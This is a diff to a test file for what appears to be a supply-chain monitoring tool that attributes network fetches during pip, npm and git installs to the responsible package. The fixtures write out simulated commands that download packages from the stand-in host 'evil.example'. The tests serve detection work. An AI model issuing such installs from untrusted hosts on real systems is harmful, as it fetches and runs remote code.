@@ -15,6 +15,7 @@ from fpbox.attribute.attributor import _MAX_IMAGES
 from fpbox.interest import Interest
 from fpbox.model import TOOLCHAIN, UNATTRIBUTED, Action, Event, Process, Scope
 
+HOOK = "/x/pyproject_hooks/_in_process/_in_process.py"
 NPM = ("node", "/usr/bin/npm", "install")
 LOCK = {
     "name": "app",
@@ -632,7 +633,7 @@ def test_only_pip_waits_and_only_so_much(monkeypatch):
     hook = tree.run(
         tree.top,
         "python",
-        "/x/pyproject_hooks/_in_process/_in_process.py",
+        HOOK,
         "build_wheel",
         exe="/usr/bin/python3.12",
     )
@@ -656,7 +657,46 @@ def test_pip_goes_to_a_host_for_the_package_whose_metadata_it_read_last(helper):
     assert asked(tree, image, "evil.example").package.purl == "pkg:pypi/calm@3.1"
 
 
-def test_other_package_managers_ask_for_nobody():
-    tree = Tree()
+def test_what_no_package_manager_asks_for_is_nobodys():
+    tree = Tree(("make",), "/usr/bin/make")
     tree.touch(tree.top, METADATA)
     assert asked(tree, tree.top, "evil.example") is None
+
+
+@pytest.mark.parametrize(
+    ("folder", "purl"),
+    [
+        ("/tmp/pip-install-1/loud_0123456789abcdef0123456789abcdef", "pkg:pypi/loud"),
+        ("/tmp/pip-req-build-1", "pkg:pypi/pip-req-build-1"),
+        ("/app/dep", "pkg:pypi/dep"),
+    ],
+)
+def test_pip_goes_to_a_host_for_the_package_that_needs_something_from_there_to_be_built(folder, purl):
+    tree = pip_tree()
+    tree.touch(tree.top, f"{folder}/pyproject.toml")
+    words = ("pip", "install", "--prefix", "/tmp/pip-build-env-1/overlay", "--", "x @ https://evil.example/x")
+    inner = tree.run(tree.top, "python3", *words, exe="/usr/bin/python3.12")
+    assert tree.scopes[inner].package == TOOLCHAIN
+    scope = asked(tree, inner, "evil.example")
+    assert (scope.package.purl, scope.phase) == (purl, "requires")
+    hook = tree.run(tree.top, "python3", HOOK, "build_wheel", exe="/usr/bin/python3.12", cwd=folder)
+    assert tree.scopes[hook].package == scope.package
+
+
+@pytest.mark.parametrize("helper", [False, True])
+def test_npm_goes_to_a_host_for_the_package_that_asks_for_it_in_the_lockfile(helper):
+    entries = {"": {"dependencies": {"a": "^1"}}} | {
+        f"node_modules/{name}": {"version": "1.2.0", "dependencies": {"x": spec}}
+        for name, spec in (("a", "^1"), ("@s/b", "https://evil.example/x.tgz"))
+    }
+    entries["node_modules/a"]["dependencies"]["@s/b"] = "*"
+    tree = Tree()
+    image = tree.run(tree.top, "git", "https://evil.example/x", exe="/usr/bin/git") if helper else tree.top
+    scope = asked(tree, image, "evil.example")
+    other = asked(tree, image, "other.example")
+    assert scope.package != other.package
+    assert {tree.attributor.final(one.package) for one in (scope, other)} == {TOOLCHAIN}
+    tree.attributor.use_lockfile(json.dumps({"packages": entries}).encode())
+    final = tree.attributor.final(scope.package)
+    assert (final.purl, final.via, scope.phase) == ("pkg:npm/%40s/b@1.2.0", ("app", "a", "@s/b"), "requires")
+    assert tree.attributor.final(other.package) == TOOLCHAIN
